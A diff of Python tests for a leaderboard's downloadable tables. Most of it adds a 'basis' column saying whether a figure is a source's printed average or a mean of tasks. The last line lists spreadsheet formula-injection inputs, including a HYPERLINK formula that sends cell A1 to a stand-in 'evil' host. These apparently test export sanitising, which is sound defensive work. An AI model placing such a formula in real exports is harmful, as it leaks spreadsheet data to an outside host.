@@ -203,7 +203,7 @@ def test_a_download_column_holds_one_statistic_whatever_the_views_test(metric: s
     tier_tables([table])
     header, records = view_records(table, lambda row: "scored")
     fields = [h.removeprefix(metric + " ") for h in header if h.startswith(metric + " ")]
-    assert fields == ["tier", "test", "p_value", "p_adjusted", "p_floor",
+    assert fields == ["basis", "tier", "test", "p_value", "p_adjusted", "p_floor",
                       "diff_vs_best_verified", "diff_ci_low", "diff_ci_high", "hl_shift",
                       "hl_ci_low", "hl_ci_high", "effect_size"]
     by_id = {r["system_id"]: r for r in records}
@@ -219,6 +219,34 @@ def test_a_download_column_holds_one_statistic_whatever_the_views_test(metric: s
         assert r["test"] == "randomization"
         assert r["hl_shift"] is None and r["hl_ci_low"] is None and r["hl_ci_high"] is None
         assert r["diff_ci_low"] <= r["diff_vs_best_verified"] <= r["diff_ci_high"]
+
+
+def test_a_download_says_which_figures_are_a_sources_own_printed_average() -> None:
+    """An average column's cell is the mean of the row's task figures, as the JSON's
+    'means' says, except where a reported row's source prints its own average, which the
+    cell shows as printed (PI-Indic's full-set T4: distiluse's AUROC 0.710 printed, the
+    mean of its 11 languages 0.570). The page marks it; the downloads gave both kinds in
+    one column with nothing saying which. Each cell's basis says how it was obtained."""
+    from dataclasses import replace
+
+    from leaderboard.benchmarks.followtable import FT_PAPER_AVERAGE
+
+    column = replace(TWO, prefer=(FT_PAPER_AVERAGE,))
+    a, b = _uneven_pair()
+    printed = _system("paper", figures={"followtable/wtr": 1.0, "followtable/wqt": 0.0,
+                                        FT_PAPER_AVERAGE: 0.7}, reported=True)
+    meant = _system("paper-2", figures={"followtable/wtr": 0.2, "followtable/wqt": 0.0},
+                    reported=True)
+    view = View(id="followtable/test", label="t", title="t", columns=(column,),
+                tiered_column=0)
+    table = fill_view(view, [Row(key=s.system_id, system=s, origin=Path("x"))
+                             for s in (a, b, printed, meant)])
+    tier_tables([table])
+    header, records = view_records(table, lambda row: "scored")
+    assert "IRS basis" in header
+    by_id = {r["system_id"]: r for r in records}
+    assert by_id["paper"]["IRS"] == 0.7 and by_id["paper"]["IRS basis"] == "published"
+    assert by_id["paper-2"]["IRS basis"] == by_id["a"]["IRS basis"] == "mean of tasks"
 
 
 @pytest.mark.parametrize("text", ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+1", "-2+3",
